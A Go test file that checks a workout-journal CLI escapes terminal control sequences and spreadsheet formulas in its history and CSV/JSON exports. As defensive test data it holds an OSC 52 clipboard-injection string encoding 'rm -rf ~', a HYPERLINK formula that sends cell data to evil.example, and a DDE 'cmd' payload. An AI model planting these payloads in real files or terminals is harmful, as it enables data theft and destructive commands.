package cli

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/backcoach/backcoach/internal/text/safetext"
	"github.com/backcoach/backcoach/journal"
)

// unsafeIn is the first character of out that may not reach a terminal
// (a line end aside), or "".
func unsafeIn(out string) string {
	for _, r := range out {
		if r != '\n' && safetext.Unsafe(r) {
			return string(r)
		}
	}
	return ""
}

// A journal written by hand or by an older version can hold anything:
// what history, its CSV and its JSON print of it holds no escape sequence
// and no control character. The routine file: its name puts
// "rm -rf ~" on the clipboard (OSC 52), then clears the screen.
func TestJournalTextNeverReachesTheTerminalRaw(t *testing.T) {
	const osc52 = `\u001b]52;c;cm0gLXJmIH4=\u0007\u001b[2J`
	s := session("s1", testNow.Add(-time.Hour), journal.Finished, 3, 2)
	line := jsonOf(t, s, `"name":"Low back"`, `"name":"Low`+osc52+`back"`)
	for _, r := range []struct{ from, to string }{
		{`"session":"s1"`, `"session":"s1` + osc52 + `"`},
		{`"id":"low-back"`, `"id":"low-back` + osc52 + `"`},
		{`"source":"built-in"`, `"source":"/r/` + osc52 + `.yaml"`},
		{`"level":"gentle"`, `"level":"gentle\u009b2J"`},
		{`"outcome":"finished"`, `"outcome":"finished` + osc52 + `"`},
		{`"name":"Bird dog"`, `"name":"Bird` + osc52 + ` dog\u007f"`},
		{`"id":"bird-dog"`, `"id":"bird-dog\r\n"`},
		{`"end":"finished"`, `"end":"finished\u0085"`},
	} {
		if !strings.Contains(line, r.from) {
			t.Fatalf("%s is not in %s", r.from, line)
		}
		line = strings.Replace(line, r.from, r.to, 1)
	}
	env, _ := journalLines(t, line)
	for _, args := range [][]string{{"history"}, {"history", "--export", "csv"}, {"history", "--export", "json"}} {
		r := call(t, env, args...)
		if r.code != 0 || !strings.Contains(r.stdout, "Low") {
			t.Fatalf("%v: exit %d, stderr %q, stdout:\n%s", args, r.code, r.stderr, r.stdout)
		}
		if c := unsafeIn(r.stdout); c != "" {
			t.Errorf("%v printed %q:\n%q", args, c, r.stdout)
		}
	}
	r := call(t, env, "history", "--export", "csv")
	rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("csv: %v, %d rows:\n%s", err, len(rows), r.stdout)
	}
	if got := rows[1][5]; got != `/r/\x1b]52;c;cm0gLXJmIH4=\a\x1b[2J.yaml` {
		t.Errorf("routine_source %q, want the path with its escape sequence shown escaped", got)
	}
	if got := rows[1][4]; got != "Lowback" && got != "Low back" {
		t.Errorf("routine_name %q, want it without the sequence", got)
	}
}

// A name a spreadsheet would read as a formula is exported as text: a
// single quote in front, as OWASP recommends for CSV exports, and every
// text cell quoted, so that a separator inside one starts no new cell.
func TestCSVExportHoldsNoFormula(t *testing.T) {
	s := session("s1", testNow.Add(-time.Hour), journal.Finished, 3, 2)
	s.Routine.Name = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	s.Routine.ID = "@SUM(1+1)"
	s.Exercises[0].Name = "+1+cmd|' /C calc'!A0"
	s.Exercises[1].Name = "-2+3"
	s.Exercises[1].ID = "a;=1+1"
	env := stateWith(t, s)
	r := call(t, env, "history", "--export", "csv")
	rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("csv: %v, %d rows:\n%s", err, len(rows), r.stdout)
	}
	for _, c := range []struct {
		row, col int
		want     string
	}{
		{1, 4, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{1, 3, "'@SUM(1+1)"},
		{1, 11, "'+1+cmd|' /C calc'!A0"},
		{2, 11, "'-2+3"},
		{2, 10, "a;=1+1"},
		{1, 12, "20"}, // numbers stay numbers
	} {
		if got := rows[c.row][c.col]; got != c.want {
			t.Errorf("row %d, %s: %q, want %q", c.row, rows[0][c.col], got, c.want)
		}
	}
	if !strings.Contains(r.stdout, `,"a;=1+1",`) {
		t.Errorf("a cell with a separator in it is not quoted:\n%s", r.stdout)
	}
}
